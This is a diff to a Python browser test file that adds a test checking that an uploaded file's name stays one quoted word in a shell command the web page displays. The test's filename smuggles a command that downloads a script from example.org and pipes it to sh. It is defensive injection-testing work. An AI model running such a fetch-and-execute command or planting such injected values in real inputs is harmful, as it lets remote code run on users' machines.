@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import os
 import re
+import shlex
 import shutil
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -198,6 +199,21 @@ def test_samples_are_generated_and_a_link_brings_their_settings(generous: Server
     assert visit.shown("#grid-name") == "Latents"
     page.locator("[data-layer=codes]").hover()
     assert visit.shown(".code h2") == "3 numbers"
+
+
+@needs_chromium
+def test_a_hostile_name_is_one_word_of_the_command(generous: Server, visit: Visit) -> None:
+    name = "a b'; curl example.org | sh #.png"
+    visit.page.goto(generous.url)
+    visit.shown("#served")
+    file = {"name": name, "mimeType": "image/png", "buffer": picture(height=16, width=16)}
+    visit.page.set_input_files("[name=file]", file)
+    visit.reconstructed()
+    words = shlex.split(visit.page.locator(".command pre").text_content())
+    assert words[words.index("--data-binary") + 1] == f"@{name}"
+    for part in ("tab=constructor", "tab=reconstruct&view=&sample=constructor", "tab=generate&length=3"):
+        visit.page.goto(f"{generous.url}/#{part}")
+    assert visit.page.locator("#generate").is_visible()
 
 
 @needs_chromium
